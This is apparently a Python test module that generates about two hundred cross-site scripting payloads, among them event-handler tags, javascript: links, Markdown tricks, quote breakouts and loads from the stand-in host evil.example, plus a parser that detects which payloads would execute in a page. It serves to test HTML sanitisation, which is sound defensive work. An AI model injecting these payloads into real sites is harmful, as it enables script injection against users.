"""Over two hundred strings that would act if a page let them, and what tells that one did.

``N`` in a string becomes its number, so that what is found names the string it came from.
"""

import json
import re
from html.parser import HTMLParser
from itertools import chain, product

_EVENTS = ("onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onbegin")
_TAGS = (
    *("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x"),
    *(
        "iframe",
        "object data=x",
        "select autofocus",
        "marquee",
        "math",
        "a href=x",
        "div tabindex=1",
    ),
)
_HANDLERS = [f"<{tag} {event}=zqN()>" for tag, event in product(_TAGS, _EVENTS)]
_SCHEMES = (
    *("javascript:zqN()", "JaVaScRiPt:zqN()", "java\tscript:zqN()", " javascript:zqN()"),
    *("javascript&colon;zqN()", "&#106;avascript:zqN()", "&#x6A;avascript:zqN()"),
    *("vbscript:zqN()", "data:text/html,<script>zqN()</script>", "data:text/html;base64,zqN"),
)
_WAYS = (
    '<a href="{}">x</a>',
    "<iframe src='{}'>",
    '<form action="{}">',
    '<button formaction="{}">',
)
_LINKS = [way.format(scheme) for way, scheme in product(_WAYS, _SCHEMES)]
_MARKDOWN = [f"[x]({scheme.strip()})" for scheme in _SCHEMES if len(scheme.split()) == 1] + [
    "![x](https://evil.example/zqN.gif)",
    "[x]: javascript:zqN()\n\n[x]",
    "<javascript:zqN()>",
    "[x](<javascript:zqN()>)",
    '[x](https://ok.example "\\" onclick=zqN() x=\\"")',
    "```\n</code></pre><script>zqN()</script>\n```",
    "`</code><img src=x onerror=zqN()>`",
]
_QUOTES = [
    *(f'" {event}=zqN() x="' for event in _EVENTS),
    *(f"' {event}=zqN() x='" for event in _EVENTS),
    *(f"{end}<b {event}=zqN()>" for end in ('">', "'>", "/>", "-->") for event in _EVENTS),
]
_ENDINGS = [
    f"</{tag}><script>zqN()</script>"
    for tag in (
        *("script", "style", "title", "textarea", "noscript", "template", "option", "select"),
        *("svg", "math", "p", "pre", "td", "button", "dialog", "form"),
    )
]
_ELSE = [
    "<script>zqN()</script>",
    "<SCRIPT SRC=//evil.example/zqN.js></SCRIPT>",
    "<scr<script>ipt>zqN()</script>",
    "<script\x0c>zqN()</script\x0c>",
    "<script/x>zqN()</script>",
    "<!-- x --><img src=x onerror=zqN()>",
    "<![CDATA[x]]><img src=x onerror=zqN()>",
    "<svg><script>zqN()</script></svg>",
    "<svg><animate attributeName=href values=javascript:zqN()>",
    "<math href=javascript:zqN()>x</math>",
    "<base href=//evil.example/zqN/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/zqN'>",
    "<link rel=stylesheet href=//evil.example/zqN.css>",
    "<style>@import '//evil.example/zqN.css';</style>",
    "<p style=background:url(//evil.example/zqN)>",
    "<iframe srcdoc='<script>zqN()</script>'></iframe>",
    "<embed src=//evil.example/zqN.swf>",
    "<form action=//evil.example/zqN><input name=x></form>",
    "<div hx-get=/zqN hx-trigger=load>",
    "<div data-hx-post=/zqN hx-trigger=load>",
    "<button hx-on:click=zqN()>",
    "<hx-partial hx-target=body><script>zqN()</script></hx-partial>",
    "<img src=//evil.example/zqN.gif>",
    "<a id=zqN name=zqN href=#>",
]
STRINGS = [
    one.replace("N", f"{number:03}n")
    for number, one in enumerate(chain(_HANDLERS, _LINKS, _MARKDOWN, _QUOTES, _ENDINGS, _ELSE))
]
_MARK = re.compile(r"zq\d{3}n")
_LEADS = {"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "values", "srcset"}
#: What Markdown may become, and what a page of ours is made of is told by the page itself.
_FINE = re.compile(r"(https?:|mailto:|/|#|\?|$)", re.IGNORECASE)


class Watch(HTMLParser):
    """Reads a page as a browser does; ``acting`` names what of the strings stands where it acts."""

    def __init__(self) -> None:
        super().__init__()
        self.acting: list[str] = []
        self._inside = ""
        self._is_data = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = {name: value or "" for name, value in attrs}
        if tag in ("script", "style"):
            self._inside, self._is_data = tag, named.get("type") == "application/json"
        for name, value in named.items():
            if _MARK.search(tag + name) or (_MARK.search(value) and _acts(tag, name, value)):
                self.acting.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == self._inside:
            self._inside = ""

    def handle_data(self, data: str) -> None:
        if not self._inside or not _MARK.search(data):
            return
        if self._is_data:
            json.loads(data)
        else:
            self.acting.append(f"<{self._inside}>{data[:80]}")


def _acts(tag: str, name: str, value: str) -> bool:
    if name.startswith(("on", "hx-", "data-hx-")) or name in ("style", "srcdoc", "id", "name"):
        return True
    if name == "content" and tag == "meta":
        return True
    if name not in _LEADS:
        return False
    seen = re.sub(r"[\x00-\x20]", "", value)
    # A link of a text leads where it says; nothing else goes elsewhere by itself.
    return not _FINE.match(seen) or (tag != "a" and "evil.example" in seen)


def acting_in(page: str) -> list[str]:
    """What of the strings stands in a page where it acts."""
    watch = Watch()
    watch.feed(page)
    watch.close()
    return watch.acting
